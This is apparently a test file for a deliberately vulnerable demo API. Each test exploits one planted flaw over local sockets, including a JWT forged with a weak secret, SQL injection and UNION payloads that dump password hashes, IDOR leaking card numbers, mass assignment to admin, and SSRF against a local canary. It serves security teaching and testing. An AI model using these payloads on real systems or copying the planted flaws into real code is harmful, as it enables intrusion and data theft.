// Each deliberate flaw of the demo API, shown exploitable over real sockets.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { signJwt } from '../../examples/demo-api/lib/jwt.ts';
import { type DemoApi, startDemoApi } from '../../examples/demo-api/server.ts';
import { call, jwtClaims, loginAs, luhnValid, startCanary, tempDb } from './helpers.ts';

/** Run fn against a fresh demo API on 127.0.0.1:0 with its own temp SQLite file. */
async function withDemo(fn: (api: DemoApi, base: string) => Promise<void>): Promise<void> {
  const db = await tempDb();
  const api = await startDemoApi({ host: '127.0.0.1', port: 0, dbFile: db.file, quiet: true });
  try {
    await fn(api, `${api.url}/api/v1`);
  } finally {
    await api.close();
    await db.cleanup();
  }
}

describe('demo API (deliberately vulnerable)', () => {
  test('starts on a free port, health is public, banners on every response', () =>
    withDemo(async (api, base) => {
      assert.ok(api.port > 0);
      assert.equal(api.url, `http://127.0.0.1:${api.port}`);
      const res = await call(`${base}/health`);
      assert.equal(res.status, 200);
      assert.equal(res.json.status, 'ok');
      assert.equal(res.headers.get('server'), 'DemoAPI/0.1');
      assert.equal(res.headers.get('x-powered-by'), 'Express');
    }));

  test('API2: login tells unknown users from wrong passwords (user enumeration)', () =>
    withDemo(async (_api, base) => {
      const unknown = await call(`${base}/auth/login`, {
        method: 'POST',
        body: { username: 'zed', password: 'x' },
      });
      const wrong = await call(`${base}/auth/login`, {
        method: 'POST',
        body: { username: 'alice', password: 'x' },
      });
      assert.equal(unknown.status, 401);
      assert.equal(wrong.status, 401);
      assert.notEqual(unknown.json.error, wrong.json.error);
    }));

  test('API2: no login attempt limit: the right password still works after many wrong ones', () =>
    withDemo(async (_api, base) => {
      for (let i = 0; i < 12; i++) {
        const res = await call(`${base}/auth/login`, {
          method: 'POST',
          body: { username: 'bob', password: `guess-${i}` },
        });
        assert.equal(res.status, 401);
      }
      assert.equal(jwtClaims(await loginAs(base, 'bob', 'bob123')).username, 'bob');
    }));

  test('API2: the JWT secret is the weak word secret123, so anyone can forge an admin token', () =>
    withDemo(async (_api, base) => {
      const iat = Math.floor(Date.now() / 1000);
      const forged = signJwt({ sub: '3', username: 'admin', role: 'admin', iat, exp: iat + 60 }, 'secret123');
      const res = await call(`${base}/users/3`, { token: forged });
      assert.equal(res.status, 200);
      assert.equal(res.json.username, 'admin');
    }));

  test('API1 + API3: any user reads any user, with password_hash, email and role leaked', () =>
    withDemo(async (_api, base) => {
      const alice = await loginAs(base, 'alice', 'alice123');
      assert.equal(jwtClaims(alice).sub, '1');
      const res = await call(`${base}/users/2`, { token: alice });
      assert.equal(res.status, 200);
      assert.equal(res.json.username, 'bob');
      assert.match(res.json.password_hash, /^\$scrypt\$ln=14,r=8,p=1\$/);
      assert.equal(res.json.email, 'bob@example.com');
      assert.equal(res.json.role, 'user');
    }));

  test('API3: mass assignment of role sticks, and on another user too (no ownership check)', () =>
    withDemo(async (_api, base) => {
      const alice = await loginAs(base, 'alice', 'alice123');
      const own = await call(`${base}/users/1`, { method: 'PATCH', token: alice, body: { role: 'admin' } });
      assert.equal(own.status, 200);
      assert.equal(own.json.role, 'admin');
      assert.equal((await call(`${base}/users/1`, { token: alice })).json.role, 'admin');
      assert.equal(jwtClaims(await loginAs(base, 'alice', 'alice123')).role, 'admin');
      const other = await call(`${base}/users/2`, {
        method: 'PATCH',
        token: alice,
        body: { display_name: 'pwned by alice' },
      });
      assert.equal(other.status, 200);
      assert.equal(other.json.display_name, 'pwned by alice');
    }));

  test("API1 + API3: any user reads another user's order with its full card number", () =>
    withDemo(async (_api, base) => {
      const alice = await loginAs(base, 'alice', 'alice123');
      const res = await call(`${base}/orders/4`, { token: alice });
      assert.equal(res.status, 200);
      assert.equal(res.json.user_id, 2);
      assert.equal(res.json.card_number, '5555555555554444');
      assert.ok(luhnValid(res.json.card_number));
    }));

  test('API4: no upper bound on the orders page size', () =>
    withDemo(async (_api, base) => {
      const alice = await loginAs(base, 'alice', 'alice123');
      const res = await call(`${base}/orders?limit=1000000`, { token: alice });
      assert.equal(res.status, 200);
      assert.equal(res.json.limit, 1000000);
      assert.equal(res.json.count, 3);
      assert.ok(res.json.items.every((o: { card_number: string }) => luhnValid(o.card_number)));
    }));

  test("injection: ' OR 1=1-- returns every product, hidden ones included; UNION reads the users table", () =>
    withDemo(async (_api, base) => {
      const alice = await loginAs(base, 'alice', 'alice123');
      const normal = await call(`${base}/products/search?q=`, { token: alice });
      assert.equal(normal.status, 200);
      assert.equal(normal.json.count, 6);
      const q = encodeURIComponent("' OR 1=1--");
      const injected = await call(`${base}/products/search?q=${q}`, { token: alice });
      assert.equal(injected.status, 200);
      assert.equal(injected.json.count, 8);
      assert.ok(injected.json.items.some((p: { name: string }) => p.name.includes('unreleased')));
      const union = encodeURIComponent("zzz' UNION SELECT id, username, password_hash, 0 FROM users--");
      const leaked = await call(`${base}/products/search?q=${union}`, { token: alice });
      assert.equal(leaked.status, 200);
      assert.equal(leaked.json.count, 3);
      assert.ok(
        leaked.json.items.every((p: { description: string }) => p.description.startsWith('$scrypt$')),
      );
    }));

  test('API8: an SQL error comes back verbatim with the query and a stack trace', () =>
    withDemo(async (_api, base) => {
      const alice = await loginAs(base, 'alice', 'alice123');
      const res = await call(`${base}/products/search?q=${encodeURIComponent("'")}`, { token: alice });
      assert.equal(res.status, 500);
      assert.match(res.json.error, /^SQLITE_ERROR: /);
      assert.match(res.json.sql, /FROM products WHERE hidden = 0/);
      assert.match(res.json.stack, /\n\s+at /);
    }));

  test('API8: every error carries a stack trace (401, 404, bad JSON)', () =>
    withDemo(async (_api, base) => {
      const unauth = await call(`${base}/users/1`);
      const missing = await call(`${base}/nowhere`);
      const badJson = await call(`${base}/auth/login`, { method: 'POST', body: '{"username":' });
      assert.deepEqual([unauth.status, missing.status, badJson.status], [401, 404, 400]);
      for (const res of [unauth, missing, badJson]) {
        assert.match(res.json.stack, /\n\s+at /);
        assert.equal(res.headers.get('server'), 'DemoAPI/0.1');
      }
    }));

  test('API7: fetch-preview fetches a local listener and returns its content (SSRF)', () =>
    withDemo(async (_api, base) => {
      const canary = await startCanary();
      try {
        const alice = await loginAs(base, 'alice', 'alice123');
        const res = await call(`${base}/fetch-preview`, {
          method: 'POST',
          token: alice,
          body: { url: canary.url },
        });
        assert.equal(res.status, 200);
        assert.equal(res.json.status, 200);
        assert.equal(res.json.body, `${canary.secret}\n`);
        assert.deepEqual(canary.hits, ['/latest/meta-data/']);
      } finally {
        await canary.close();
      }
    }));

  test('API5: a plain user deletes another user through the admin operation', () =>
    withDemo(async (_api, base) => {
      const alice = await loginAs(base, 'alice', 'alice123');
      assert.equal(jwtClaims(alice).role, 'user');
      const res = await call(`${base}/admin/users/2`, { method: 'DELETE', token: alice });
      assert.equal(res.status, 200);
      assert.equal(res.json.deleted, 2);
      assert.equal((await call(`${base}/users/2`, { token: alice })).status, 404);
      const bob = await call(`${base}/auth/login`, {
        method: 'POST',
        body: { username: 'bob', password: 'bob123' },
      });
      assert.equal(bob.status, 401);
    }));

  test('bad input gets an answer, not a crash: oversized body, non-numeric id, non-object body', () =>
    withDemo(async (_api, base) => {
      const alice = await loginAs(base, 'alice', 'alice123');
      const big = await call(`${base}/fetch-preview`, {
        method: 'POST',
        token: alice,
        body: 'x'.repeat(1024 * 1024 + 1),
      });
      assert.equal(big.status, 413);
      assert.equal((await call(`${base}/users/abc`, { token: alice })).status, 404);
      assert.equal((await call(`${base}/auth/login`, { method: 'POST', body: [1, 2] })).status, 400);
      assert.equal((await call(`${base}/health`)).status, 200);
    }));

  test('a database file is reseeded on each start', async () => {
    const db = await tempDb();
    try {
      for (let round = 0; round < 2; round++) {
        const api = await startDemoApi({ dbFile: db.file, quiet: true });
        try {
          const base = `${api.url}/api/v1`;
          const alice = await loginAs(base, 'alice', 'alice123');
          assert.equal((await call(`${base}/users/1`, { token: alice })).json.role, 'user');
          await call(`${base}/users/1`, { method: 'PATCH', token: alice, body: { role: 'admin' } });
        } finally {
          await api.close();
        }
      }
    } finally {
      await db.cleanup();
    }
  });
});
